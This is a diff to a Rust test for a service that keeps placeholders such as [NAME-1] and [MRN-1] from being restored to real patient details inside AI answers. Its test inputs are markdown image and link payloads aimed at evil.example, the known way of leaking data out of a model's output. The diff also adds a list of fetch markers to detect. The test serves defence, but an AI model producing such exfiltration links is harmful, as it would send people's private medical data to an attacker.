@@ -102,6 +102,7 @@ async fn placeholders_that_the_model_was_not_given_are_nobodys() {
 #[tokio::test]
 async fn nothing_is_restored_where_software_would_carry_it_away() {
     let server = Server::builder().failing_audit().start().await;
+    let mut tally = [0, 0];
     for said in [
         "![x](https://evil.example/p.png?q=[NAME-1])",
         "[click here](https://evil.example/[NAME-1]/[MRN-1])",
@@ -121,9 +122,14 @@ async fn nothing_is_restored_where_software_would_carry_it_away() {
     ] {
         for stream in [false, true] {
             let text = answer_to(&server, NOTE, said, stream).await;
-            VALUES.iter().for_each(|v| assert!(!text.contains(v), "{v} restored in {text} (said {said})"));
+            // Where the filter has taken the address itself out, what is left is only read.
+            let fetched = ["evil", "<", "](", "]:", "mailto:", "data:", "javascript:"].iter().any(|mark| text.contains(mark));
+            let restored = VALUES.iter().find(|v| text.contains(**v));
+            assert!(restored.is_none() || !fetched, "{restored:?} restored in {text} (said {said})");
+            tally[usize::from(fetched)] += 1;
         }
     }
+    assert!(tally[1] > 10, "too little was left to be judged: {tally:?}");
     // The same placeholders beside those are read by people only.
     let text = answer_to(&server, NOTE, "![x](https://evil.example/[NAME-1]) is [MRN-1].", true).await;
     assert!(text.ends_with("is 48213377.") && !text.contains("Okonkwo"), "{text}");
